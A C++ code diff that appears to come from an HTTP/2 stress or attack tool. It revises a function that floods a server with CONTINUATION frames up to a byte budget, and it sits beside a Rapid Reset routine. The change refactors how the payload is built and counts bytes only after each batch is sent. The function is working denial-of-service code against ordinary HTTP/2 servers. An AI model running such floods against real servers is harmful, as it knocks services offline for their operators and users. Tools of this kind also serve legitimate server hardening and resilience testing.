@@ -231,21 +231,27 @@ void RapidResetConnection(H2Client* client, int64_t max_streams,
 void SendContinuations(H2Client* client, int64_t flood_bytes,
                        const std::string& field, Clock::time_point start,
                        Report* report) {
-  const std::string frame_payload =
-      field.empty() ? std::string(kH2DefaultMaxFrame, 'a') : [&] {
-        std::string p;
-        while (p.size() + field.size() <= kH2DefaultMaxFrame) p += field;
-        return p;
-      }();
+  std::string payload;
+  if (field.empty()) {
+    payload.assign(kH2DefaultMaxFrame, 'a');
+  } else {
+    while (payload.size() + field.size() <= kH2DefaultMaxFrame) {
+      payload += field;
+    }
+  }
   const std::string frame =
-      H2Client::EncodeFrame(H2FrameType::kContinuation, 0, 1, frame_payload);
+      H2Client::EncodeFrame(H2FrameType::kContinuation, 0, 1, payload);
+  const int64_t per_frame = static_cast<int64_t>(payload.size());
   while (report->bytes_sent < flood_bytes) {
     std::string batch;
-    for (int i = 0; i < 64 && report->bytes_sent < flood_bytes; ++i) {
+    int64_t batch_bytes = 0;
+    for (int i = 0; i < 64 && report->bytes_sent + batch_bytes < flood_bytes;
+         ++i) {
       batch += frame;
-      report->bytes_sent += static_cast<int64_t>(frame_payload.size());
+      batch_bytes += per_frame;
     }
     if (!client->SendBytes(batch)) break;
+    report->bytes_sent += batch_bytes;
     client->Poll();
     Watch(*client, start, &report->reaction);
     const H2Tally& t = client->tally();
